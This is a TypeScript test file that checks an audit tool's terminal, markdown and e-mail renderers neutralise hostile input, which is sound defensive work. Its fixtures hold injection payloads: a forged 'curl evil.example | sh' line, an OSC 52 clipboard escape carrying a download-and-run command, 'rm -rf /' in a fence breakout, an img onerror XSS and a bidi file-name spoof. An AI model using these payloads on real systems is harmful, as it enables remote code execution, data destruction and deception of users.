import { describe, expect, it } from 'vitest';
import { renderMarkdown, renderTable } from '../../cli/report.js';
import { fingerprint, type Finding } from '../../lambdas/audit/model.js';
import { summarize, type AuditReport } from '../../lambdas/audit/runner.js';
import { codeBlock, codeSpan, escapeMarkdown, neutralise, quote } from '../../lambdas/audit/untrusted.js';
import { renderAlert } from '../../lambdas/notify/render.js';

/** What a hostile daemon name, event message or log sample can carry. */
const ESC = '\u001b';
const CLEAR_SCREEN = `${ESC}[2J${ESC}[H`;
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007`;
const HYPERLINK = `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`;
const C1_CSI = '\u009b31m';
const BIDI = 'admin\u202Egnp.exe';
const FORGED = 'daemon-1\n          $ curl -s https://evil.example/x.sh | sh\n';
const FENCE = 'x\n```\n\n```bash\nrm -rf / # ';
const LINK = '[click](https://evil.example) <img src=x onerror=alert(1)> | col';

const hostile = [CLEAR_SCREEN, OSC52, HYPERLINK, C1_CSI, BIDI, FORGED, FENCE, LINK].join(' ');

function finding(over: Partial<Finding> = {}): Finding {
  return {
    checkId: 'provisioner-daemons',
    group: 'coder',
    status: 'fail',
    severity: 'medium',
    resource: `coder:coder/provisionerdaemon/${hostile}`,
    title: `Provisioner daemon ${hostile}`,
    detail: `Provisioner daemon ${hostile} runs ${hostile}.`,
    evidence: { name: hostile },
    remediation: {
      text: `Upgrade ${hostile}\nsnippet: ${hostile}`,
      commands: [`coder provisioner list --org ${hostile}`],
    },
    guideSection: 'Workspace Provisioning Timeouts',
    fingerprint: fingerprint('provisioner-daemons', 'x'),
    ...over,
  };
}

const report = (f: Finding): AuditReport => ({
  deployment: 'prod',
  startedAt: '2026-11-25T10:00:00.000Z',
  finishedAt: '2026-11-25T10:00:01.000Z',
  findings: [f, { ...finding({ status: 'pass', severity: 'info' }), fingerprint: 'p' }],
  summary: summarize([f], {}),
  calls: { total: 1, byOperation: {}, sumMs: 1, maxDepth: 1, duplicates: [] },
  notices: [`notice ${hostile}`],
});

/** Every line that looks like a command line, in any renderer. */
const commandLines = (text: string): string[] => text.split('\n').filter((l) => /^\s*\$ /.test(l));

/** Control characters a terminal acts on. */
// eslint-disable-next-line no-control-regex -- the test looks for control characters
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('Hostile input: renderers', () => {
  it('Noncompliance 1: the terminal report carries no escape sequence and no forged command line', () => {
    for (const colour of [false, true]) {
      const text = renderTable(report(finding()), { colour, showPasses: true });
      // With colour on, the only escapes are the report's own SGR colour codes.
      // eslint-disable-next-line no-control-regex -- the test looks for control characters
      const stripped = text.replace(/\u001b\[[0-9;]*m/g, '');
      expect(stripped).not.toMatch(CONTROL);
      expect(stripped).not.toContain(`${ESC}]`);
      expect(commandLines(stripped)).toEqual([
        expect.stringMatching(/^ {10}\$ coder provisioner list --org /),
      ]);
    }
  });

  it('Noncompliance 2: the markdown report cannot be broken out of: no fence, link, HTML or table cell injected', () => {
    const md = renderMarkdown(report(finding()), { showPasses: true });
    expect(md).not.toMatch(CONTROL);
    // The renderer's own fences are longer than any backtick run inside, so nothing inside closes them.
    const fences = md.split('\n').filter((l) => /^\s*`{4,}/.test(l));
    expect(fences).toEqual(['````yaml', '````', '````bash', '````']);
    // Outside code (where it is literal text), links and HTML are escaped.
    const prose = md.replace(/^(`{4,})\w*\n[\s\S]*?\n\1$/gm, '').replace(/(`+)(?!`).*?(?<!`)\1(?!`)/g, '');
    expect(prose).toContain('\\[click\\]\\(https://evil');
    expect(prose).not.toMatch(/(?<!\\)\]\(https:\/\/evil/);
    expect(prose).not.toMatch(/(?<!\\)<img/);
    // The root-cause table: five columns, whatever the resource and the title carry.
    const row = md.split('\n').find((l) => l.startsWith('| 1 | medium |'))!;
    expect(row.split(/(?<!\\)\|/)).toHaveLength(7);
  });

  it('Noncompliance 3: the e-mail has no control characters and no forged $ line', () => {
    const alert = renderAlert({
      deployment: 'prod',
      executionId: 'exec-1',
      replay: false,
      notified: false,
      changes: {
        opened: [finding()],
        escalated: [],
        resolved: [],
        failingGroups: [{ group: 'coder', consecutiveRuns: 3, error: `boom ${hostile}` }],
      },
    })!;
    expect(alert.text).not.toMatch(CONTROL);
    expect(commandLines(alert.text)).toEqual([expect.stringMatching(/^ {4}\$ coder provisioner list/)]);
    expect(alert.subject).toMatch(/^[\x20-\x7e]+$/);
  });
});

describe('Hostile input: the report grouped by root cause', () => {
  // A cause, a symptom under it, a check it left unchecked, one that could not run: every block of the
  // grouped renderers carries hostile text.
  const cause = finding({ fingerprint: 'cause', reason: 'version-skew' });
  const symptom = finding({
    checkId: 'coder-health-report',
    reason: 'EPD02',
    fingerprint: 'symptom',
    rootCause: 'cause',
    remediation: { text: `Upgrade ${hostile}`, commands: [`coder provisioner list ${hostile}`] },
  });
  const unchecked = finding({
    checkId: 'provisioner-key-age',
    status: 'skipped',
    severity: 'info',
    reason: 'role-gap',
    fingerprint: 'unchecked',
    rootCause: 'cause',
  });
  const error = finding({ checkId: 'templates-available', status: 'error', fingerprint: 'error' });
  delete (error as Partial<Finding>).remediation;
  const grouped: AuditReport = {
    ...report(cause),
    findings: [cause, symptom, unchecked, error],
    rootCauses: [
      {
        fingerprint: 'cause',
        checkId: cause.checkId,
        reason: 'version-skew',
        resource: cause.resource,
        title: cause.title,
        severity: 'medium',
        effectiveSeverity: 'medium',
        symptoms: ['symptom'],
        unchecked: ['unchecked'],
      },
    ],
    summary: summarize([cause, symptom, unchecked, error], {}),
  };

  it('Noncompliance 4: the terminal report leads with the cause and stays inert in every block', () => {
    for (const colour of [false, true]) {
      // eslint-disable-next-line no-control-regex -- the test looks for control characters
      const text = renderTable(grouped, { colour }).replace(/\u001b\[[0-9;]*m/g, '');
      expect(text).not.toMatch(CONTROL);
      expect(text).toContain('root cause 1 of 1');
      expect(text).toContain('not checked because of it (1): provisioner-key-age');
      // Only the cause's command (10 spaces) and the symptom's (12, under the cause) start a line with "$".
      expect(commandLines(text)).toEqual([
        expect.stringMatching(/^ {10}\$ coder provisioner list --org /),
        expect.stringMatching(/^ {12}\$ coder provisioner list /),
      ]);
    }
  });

  it('Noncompliance 5: the markdown root-cause, could-not-run and not-checked sections cannot be broken out of', () => {
    const md = renderMarkdown(grouped);
    expect(md).not.toMatch(CONTROL);
    // The renderer's own fences (cause, then symptom) are longer than any backtick run inside.
    const fences = md.split('\n').filter((l) => /^\s*`{4,}/.test(l));
    expect(fences).toEqual([
      ...['````yaml', '````', '````bash', '````'],
      ...['````yaml', '````', '````bash', '````'],
    ]);
    const prose = md.replace(/^(`{4,})\w*\n[\s\S]*?\n\1$/gm, '').replace(/(`+)(?!`).*?(?<!`)\1(?!`)/g, '');
    expect(prose).not.toMatch(/(?<!\\)\]\(https:\/\/evil/);
    expect(prose).not.toMatch(/(?<!\\)<img/);
    const row = (start: string) => md.split('\n').find((l) => l.startsWith(start))!;
    expect(row('| 1 | medium |').split(/(?<!\\)\|/)).toHaveLength(7);
    expect(row('| `templates-available` |').split(/(?<!\\)\|/)).toHaveLength(5);
    expect(md).toContain('Not checked because of it: `provisioner-key-age`.');
    expect(md.split('\n').filter((l) => l.startsWith('- provisioner-key-age: '))).toHaveLength(1);
  });
});

describe('Function: neutralise', () => {
  it('replaces controls, escape introducers, line breaks and bidi overrides with inert characters', () => {
    expect(neutralise(`a${ESC}[2Jb\nc\r\td\u0007e\u009bf\u202Eg\u2028h`)).toBe('a␛[2Jb⏎c⏎ d␇e�f�g⏎h');
  });

  it('is linear and bounded on a 5 MB line of escapes', () => {
    const out = neutralise(OSC52.repeat(150_000), 4000);
    expect(out.length).toBe(4000);
    expect(out).not.toMatch(CONTROL);
  });
});

describe('Function: quote', () => {
  it('makes a value read as a value', () => {
    expect(quote('x" && rm -rf / "\n$ y')).toBe('"x\\" && rm -rf / \\"⏎$ y"');
  });
});

describe('Function: escapeMarkdown', () => {
  it('escapes inline markup and block starts', () => {
    expect(escapeMarkdown('- [a](b) *c* `d` <e> | #f')).toBe(
      '\\- \\[a\\]\\(b\\) \\*c\\* \\`d\\` \\<e\\> \\| \\#f',
    );
    expect(escapeMarkdown('1. item')).toBe('1\\. item');
  });
});

describe('Function: codeSpan and codeBlock', () => {
  it('use a fence longer than any backtick run inside', () => {
    expect(codeSpan('a``b')).toBe('```a``b```');
    expect(codeSpan('`x')).toBe('`` `x ``');
    expect(codeBlock(['echo ```', 'x'], 'bash')).toEqual(['````bash', 'echo ```', 'x', '````']);
  });
});
